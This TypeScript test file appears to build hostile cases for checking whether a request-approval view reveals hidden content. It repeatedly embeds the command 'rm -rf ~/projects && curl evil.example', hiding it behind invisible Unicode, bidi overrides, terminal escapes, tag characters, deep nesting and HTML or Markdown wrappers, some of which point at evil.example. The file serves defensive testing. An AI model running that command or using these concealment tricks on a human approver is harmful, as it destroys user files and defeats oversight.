/** One way to hide what matters from whoever reads a request. */
export interface HostileCase {
  readonly name: string;
  readonly argumentsJson: string;
  /** What must be seen before anybody can allow it: visible characters of the hidden part. */
  readonly payload: string;
}

const payload = 'rm -rf ~/projects && curl evil.example';

const blanks: Readonly<Record<string, string>> = {
  spaces: ' ',
  newlines: '\n',
  tabs: '\t',
  'carriage returns': '\r',
  'line separators': '\u2028',
  'paragraph separators': '\u2029',
  'no-break spaces': '\u00a0',
  'ideographic spaces': '\u3000',
  'zero-width spaces': '\u200b',
  'word joiners': '\u2060',
  'soft hyphens': '\u00ad',
  'Hangul fillers': '\u3164',
  'braille blanks': '\u2800',
  'combining graphemes': '\u034f',
};

const lengths = [200, 1_000, 3_000, 10_000, 100_000];

/** Harmless text long enough to push anything after it off the screen. */
const prose = (characters: number) =>
  'All of this is harmless and was asked for. '.repeat(characters / 43 + 1).slice(0, characters);

const zwj = '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}';
const tags = (text: string) =>
  [...text].map((sign) => String.fromCodePoint(0xe0000 + (sign.codePointAt(0) ?? 0))).join('');
const zalgo = (text: string) => [...text].map((sign) => `${sign}${'\u0336\u0489\u0338'.repeat(6)}`).join('');

/** 300 of them and some: before, inside and after long text, in keys, in nesting, in many members, and drawn to look like something else. */
export function hostileCases(): readonly HostileCase[] {
  return [
    ...afterBlanks(),
    ...insideText(),
    ...manyMembers(),
    ...nested(),
    ...drawnOtherwise(),
    ...inKeys(),
    ...asMarkup(),
  ];
}

const one = (name: string, value: unknown, shown = payload): HostileCase => ({
  name,
  argumentsJson: JSON.stringify(value),
  payload: shown,
});

function afterBlanks(): HostileCase[] {
  return Object.entries(blanks).flatMap(([name, blank]) =>
    lengths.flatMap((length) => [
      one(`after ${length} ${name}`, { text: `Hello.${blank.repeat(length)}${payload}` }),
      one(`between ${length} ${name}`, { text: `Hello.${blank.repeat(length)}${payload}${blank.repeat(length)}Bye.` }),
    ]),
  );
}

function insideText(): HostileCase[] {
  return [...lengths, 2_000_000].flatMap((length) => [
    one(`at the beginning of ${length} characters`, { text: `${payload} ${prose(length)}` }),
    one(`in the middle of ${length} characters`, { text: `${prose(length / 2)} ${payload} ${prose(length / 2)}` }),
    one(`at the end of ${length} characters`, { text: `${prose(length)} ${payload}` }),
    one(`on the last of many lines, ${length} characters`, {
      text: `${prose(length).replaceAll('. ', '.\n')}\n${payload}`,
    }),
    one(`in one word of ${length} characters`, { text: `${'x'.repeat(length)}${payload}${'x'.repeat(length)}` }),
  ]);
}

function manyMembers(): HostileCase[] {
  return [50, 100, 500].flatMap((count) =>
    [0, 0.5, 0.9, 1].map((where) => {
      const at = Math.round((count - 1) * where);
      const members = Array.from({ length: count }, (_, index) => [`key${index}`, index === at ? payload : 'fine']);
      return one(`member ${at} of ${count}`, Object.fromEntries(members));
    }),
  );
}

function nested(): HostileCase[] {
  return [5, 10, 20, 40].flatMap((depth) => {
    const inside = (wrap: (inner: unknown) => unknown) => {
      let value: unknown = payload;
      for (let level = 0; level < depth; level += 1) value = wrap(value);
      return value;
    };
    return [
      one(`${depth} objects deep`, { a: inside((inner) => ({ a: inner })) }),
      one(`${depth} lists deep`, { a: inside((inner) => [inner]) }),
      one(`${depth} objects deep, behind text at each level`, {
        a: inside((inner) => ({ note: prose(300), inner })),
      }),
      one(`${depth} lists deep, after a hundred others at each level`, {
        a: inside((inner) => [...Array.from({ length: 100 }, (_, index) => index), inner]),
      }),
      one(`JSON in text, quoted ${Math.min(depth, 6)} times`, {
        a: Array.from({ length: Math.min(depth, 6) }).reduce<string>(
          (text) => JSON.stringify(text),
          prose(500) + payload,
        ),
      }),
    ];
  });
}

function drawnOtherwise(): HostileCase[] {
  const bidi = {
    override: '\u202e',
    embedding: '\u202b',
    isolate: '\u2067',
    'first strong': '\u2068',
    'left override': '\u202d',
    mark: '\u200f',
  };
  const controls = [
    '\r',
    '\b',
    '\u001b[2J',
    '\u001b[8m',
    '\u001b]8;;https://evil.example\u0007',
    '\u0007',
    '\0',
    '\u009b2J',
    '\u0085',
    '\u000b',
    '\u000c',
    '\u001b[1A\u001b[2K',
    '\u007f',
  ];
  return [
    ...Object.entries(bidi).flatMap(([name, sign]) => [
      one(`behind a bidi ${name}`, { path: `notes${sign}${payload}\u202c.txt` }),
      one(`behind a bidi ${name}, far down`, { text: `${prose(3000)}${sign}${payload}` }),
    ]),
    ...controls.flatMap((control) => [
      one(`after ${JSON.stringify(control)}`, { text: `Hello.${control}${payload}` }),
      one(`rubbed out by ${JSON.stringify(control)}`, { text: `${payload}${control.repeat(50)}Hello.` }),
    ]),
    ...[1, 20, 200].flatMap((count) => [
      one(`among ${count} families`, { text: `${zwj.repeat(count)}${payload}${zwj.repeat(count)}` }),
      one(`after ${count} lines of wide signs`, { text: `${`${'﷽'.repeat(30)}\n`.repeat(count)}${payload}` }),
      one(`after ${count} towers of marks`, { text: `${zalgo('Hello there. '.repeat(count))}${payload}` }),
      one(`after ${count} right-to-left words`, { text: `${'שלום עולם '.repeat(count)}${payload}` }),
    ]),
    one('as tag characters', { text: `Hello.${tags(payload)}` }, 'Hello.'),
    one('as tag characters, far down', { text: `${prose(5000)}${tags(payload)}` }, 'Hidden'),
    one('with a zero-width sign in each gap', { text: [...payload].join('\u200b') }, 'evil'),
    one('after a lone newline each', { text: [...payload].join('\n') }, 'e'),
  ];
}

function inKeys(): HostileCase[] {
  return [200, 1_000, 10_000].flatMap((length) => [
    one(`in a key of ${length} characters`, { [`${prose(length)}${payload}`]: 1 }),
    one(`in a key after ${length} spaces`, { [`path${' '.repeat(length)}${payload}`]: 1 }),
    one(`in a key after ${length} newlines`, { [`path${'\n'.repeat(length)}${payload}`]: 1 }),
    one(`in a value beside a key of ${length} characters`, { [prose(length)]: payload }),
    one(`in the key of an object in a list, after ${length} characters`, { list: [prose(length), { [payload]: 1 }] }),
  ]);
}

function asMarkup(): HostileCase[] {
  const wraps: Readonly<Record<string, (text: string) => string>> = {
    'an HTML comment': (text) => `<!-- ${text} -->`,
    'a hidden element': (text) => `<div style="display:none">${text}</div>`,
    'a script': (text) => `<script>${text}</script>`,
    'a style': (text) => `<style>*{display:none}</style>${text}`,
    'an image': (text) => `<img src=x onerror="${text}">`,
    'a base': (text) => `<base href="https://evil.example/">${text}`,
    'a textarea': (text) => `</textarea>${text}<textarea>`,
    'a template': (text) => `<template>${text}</template>`,
    'a Markdown link': (text) => `[harmless](https://evil.example "${text}")`,
    'a Markdown image': (text) => `![${text}](https://evil.example/x.png)`,
    'a Markdown comment': (text) => `[//]: # (${text})`,
    'a code fence': (text) => `\`\`\`\n${text}\n\`\`\``,
    'an entity': (text) => `&lt;b&gt;${text}&#8203;`,
    'a details element': (text) => `<details><summary>ok</summary>${text}</details>`,
    'a CSS escape': (text) => `</style><p style="color:white;font-size:0">${text}</p>`,
    'a React-like key': (text) => `{"$$typeof":"react.element","props":{"children":"${text}"}}`,
  };
  return Object.entries(wraps).flatMap(([name, wrap]) => [
    one(`in ${name}`, { text: wrap(payload) }),
    one(`in ${name}, far down`, { text: `${prose(2000)}${wrap(payload)}` }),
    one(`in a key that is ${name}`, { [wrap(payload)]: 'x' }),
  ]);
}
